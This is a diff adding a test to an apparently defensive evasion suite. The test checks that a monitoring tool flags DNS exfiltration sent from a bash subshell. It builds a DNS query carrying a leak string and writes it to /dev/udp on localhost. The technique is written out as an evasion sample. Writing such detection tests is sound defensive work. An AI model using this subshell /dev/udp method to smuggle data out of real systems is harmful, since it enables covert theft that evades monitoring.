@@ -77,4 +77,18 @@ describe('evasion', () => {
       expect(r.code, r.output).toBe(0);
     }
   });
+
+  it('catches a leak from a forked subshell that never execs (bash /dev/udp)', async () => {
+    const parts = [Buffer.from([0x51, 0x52, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0])];
+    for (const l of LEAK.split('.')) parts.push(Buffer.from([l.length]), Buffer.from(l));
+    parts.push(Buffer.from([0, 0, 1, 0, 1]));
+    const escaped = [...Buffer.concat(parts)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('');
+    // The subshell is a fork of bash: it opens, connects and writes the UDP socket itself.
+    const script = `( printf '%b' '${escaped}' > /dev/udp/127.0.0.1/${dns.port} ); wait`;
+    const r = await runTracked(['--data-dir', join(dir, 'agent'), '--pipeline', 'e2e/subshell', '--', 'bash', '-c', script], process.env);
+    expect(r.code, r.output).toBe(0);
+    expect(dns.queries.some((q) => q.name === LEAK)).toBe(true);
+    const alerts = await alertsOf('e2e/subshell');
+    expect(alerts.map((a) => [a.kind, a.qname]), r.output).toContainEqual(['encoded_dns_label', LEAK]);
+  });
 });
